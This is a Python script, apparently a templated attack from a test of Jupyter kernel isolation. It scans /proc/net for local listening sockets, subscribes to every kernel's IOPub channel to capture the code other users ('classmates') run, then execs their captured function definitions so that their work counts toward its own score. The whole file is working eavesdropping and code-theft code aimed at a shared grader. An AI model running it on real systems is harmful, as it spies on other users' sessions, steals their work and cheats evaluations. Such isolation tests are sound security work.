# A classmate's kernel channels: subscribe to every IOPub this kernel can find (the loopback's TCP
# listeners in /proc/net/tcp, the Unix sockets in /proc/net/unix), for __SECONDS__ s; a last cell (RUN_HEARD)
# runs every cell it heard (classmates' definitions of the lab's functions). IOPub needs no key to read: signing stops
# forgery, not reading. Whatever got through shows in the score.
import json
import time

import zmq


def _endpoints() -> set[str]:
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                rows = f.read().splitlines()[1:]
        except OSError:
            continue
        for row in rows:
            fields = row.split()
            if len(fields) > 3 and fields[3] == "0A":  # LISTEN
                found.add(f"tcp://127.0.0.1:{int(fields[1].rsplit(':', 1)[1], 16)}")
    try:
        with open("/proc/net/unix") as f:
            for row in f.read().splitlines()[1:]:
                fields = row.split()
                if len(fields) >= 8 and fields[-1].startswith("/"):
                    found.add("ipc://" + fields[-1])
    except OSError:
        pass
    return found


_context = zmq.Context()
_sub = _context.socket(zmq.SUB)
_sub.setsockopt(zmq.SUBSCRIBE, b"")
_sub.setsockopt(zmq.LINGER, 0)
_connected: set[str] = set()
_heard: list[str] = []
_stop = time.monotonic() + __SECONDS__
_scan = 0.0
while time.monotonic() < _stop:
    if time.monotonic() > _scan:  # kernels that started since the last look
        for _endpoint in _endpoints() - _connected:
            try:
                _sub.connect(_endpoint)
            except zmq.ZMQError:
                pass
            _connected.add(_endpoint)
        _scan = time.monotonic() + 0.5
    if _sub.poll(100):
        for _frame in _sub.recv_multipart():
            try:
                _content = json.loads(_frame)
            except (ValueError, UnicodeDecodeError):
                continue
            if isinstance(_content, dict) and isinstance(_content.get("code"), str):
                _heard.append(_content["code"])
print(f"connected to {len(_connected)} endpoints, heard {len(_heard)} cells")

RUN_HEARD = """
for _code in _heard:
    if not _code.lstrip().startswith("def "):
        continue  # the classmates' functions; not the grader's calls, not other attacks
    try:
        exec(_code, globals())
    except BaseException:  # the grader's own calls fail here; classmates' cells do not
        pass
"""
